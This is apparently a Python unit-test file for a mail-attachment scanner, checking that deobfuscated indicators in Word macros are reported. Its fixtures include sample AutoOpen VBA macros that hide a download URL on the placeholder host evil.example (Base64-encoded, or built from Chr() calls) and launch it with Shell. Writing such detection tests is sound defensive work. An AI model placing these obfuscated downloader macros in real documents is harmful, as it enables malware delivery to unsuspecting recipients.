"""Issue 16 item 3: olevba's IOCs, after its deobfuscation (hex, Base64, Dridex, VBA
expressions), become SANDBOX_VBA_IOC with the IOCs in the detail."""

from __future__ import annotations

import base64

from tests.unit.scan.scanfiles import eml, make_ooxml, only
from tests.unit.scan.vbafiles import vba_project_bin

HIDDEN_URL = "http://evil.example/payload.exe"
SOURCE = ('Attribute VB_Name = "Module1"\r\n'
          'Sub AutoOpen()\r\n'
          f'    u = "{base64.b64encode(HIDDEN_URL.encode()).decode()}"\r\n'
          '    h = "203.0.113.7"\r\n'
          '    Shell "cmd /c start " & u\r\n'
          'End Sub\r\n')
HARMLESS = ('Attribute VB_Name = "Module1"\r\nFunction Twice(x)\r\n    Twice = 2 * x\r\n'
            'End Function\r\n')


def document(source: str) -> bytes:
    return make_ooxml("word-macro", extra={"word/vbaProject.bin": vba_project_bin(source)})


def test_deobfuscated_iocs_are_named(analyse) -> None:
    report = analyse(eml(("order.docm", document(SOURCE))))
    att = only(report)
    assert "SANDBOX_VBA_IOC" in att["symbols"], att
    (detail,) = [f["detail"] for f in report["findings"] if f["symbol"] == "SANDBOX_VBA_IOC"]
    assert HIDDEN_URL in detail and "Base64" in detail, detail  # found only once decoded
    assert "203.0.113.7" in detail and "payload.exe" in detail, detail
    assert len(detail) <= 800


def test_a_macro_without_iocs_gets_none(analyse) -> None:
    att = only(analyse(eml(("sums.docm", document(HARMLESS)))))
    assert "SANDBOX_VBA_IOC" not in att["symbols"], att


CHR_BUILT = ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
             '    u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://evil.example/x.exe"\r\n'
             '    Shell u\r\nEnd Sub\r\n')


def test_expression_deobfuscation_runs_only_where_strings_are_built(analyse, monkeypatch) -> None:
    """olevba's pyparsing deobfuscation costs ~240 ms a file: code that builds strings with
    Chr()/StrReverse/Xor gets it; plain code (its GUIDs count as "Hex Strings") does not."""
    from oletools.olevba import VBA_Parser

    calls: list[bool] = []
    original = VBA_Parser.analyze_macros

    def counting(self, show_decoded_strings=False, deobfuscate=False):  # type: ignore[no-untyped-def]
        calls.append(deobfuscate)
        return original(self, show_decoded_strings=show_decoded_strings, deobfuscate=deobfuscate)

    monkeypatch.setattr(VBA_Parser, "analyze_macros", counting)
    only(analyse(eml(("sums.docm", document(HARMLESS)))))
    assert calls == [False]
    calls.clear()
    att = only(analyse(eml(("chr.docm", document(CHR_BUILT)))))
    assert calls == [False, True]
    assert "MACRO_SUSPICIOUS" in att["symbols"] or "SANDBOX_VBA_IOC" in att["symbols"], att
